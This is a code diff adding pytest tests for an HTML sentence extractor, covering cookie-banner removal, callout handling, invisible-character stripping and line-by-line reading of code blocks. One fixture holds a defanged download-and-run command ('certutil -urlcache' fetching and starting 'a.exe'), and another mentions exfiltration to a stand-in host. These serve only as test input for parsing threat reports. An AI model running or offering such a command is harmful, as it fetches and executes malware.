@@ -28,6 +28,49 @@ def test_an_article_stands_for_its_page():
     ]
 
 
+@pytest.mark.parametrize(
+    "attributes",
+    [
+        'id="onetrust-banner-sdk"',
+        'class="site-cookie-banner is-open"',
+        'class="CookieConsent"',
+        'id="gdpr_notice"',
+        'role="dialog"',
+    ],
+)
+def test_consent_banners_are_left_out(attributes):
+    banner = f"<div {attributes}><p>We value your privacy. Accept all.</p></div>"
+
+    assert _sentences(f"<body>{banner}<div>{_REPORT}</div></body>") == _TWO
+
+
+def test_a_page_that_says_that_it_has_a_banner_is_none():
+    assert _sentences(f"<body class='cookie-banner-shown'><h1>Slate Otter</h1>{_REPORT}</body>")[1:] == _TWO
+    assert _sentences(f"<body><div class='cookie-theft'>{_REPORT}</div></body>") == _TWO
+
+
+def test_what_an_article_sets_off_is_kept_and_what_it_links_to_is_not():
+    callout = "<aside><p>Key finding: the group steals the cookies of sessions.</p></aside>"
+    related = '<aside><h3>Read more</h3><a href="/1">Five ways to patch a server</a></aside>'
+
+    assert _sentences(f"<body><article>{_REPORT}{callout}{related}</article></body>") == [
+        *_TWO,
+        "Key finding: the group steals the cookies of sessions.",
+    ]
+
+
+def test_soft_hyphens_and_spaces_of_no_width_are_gone():
+    assert _sentences("<p>It exfil&shy;trates data to evil&#8203;[.]example.</p>") == [
+        "It exfiltrates data to evil[.]example."
+    ]
+
+
+def test_code_in_blocks_of_its_own_is_read_line_by_line():
+    html = "<pre><table><tr><td>certutil -urlcache -f hxxp://x/a.exe<br>start a.exe</td></tr></table></pre>"
+
+    assert _sentences(html) == ["certutil -urlcache -f hxxp://x/a.exe", "start a.exe"]
+
+
 def test_a_teaser_does_not_stand_for_its_page():
     long = "<p>" + "The report goes on with many more details of what was seen. " * 20 + "</p>"
 
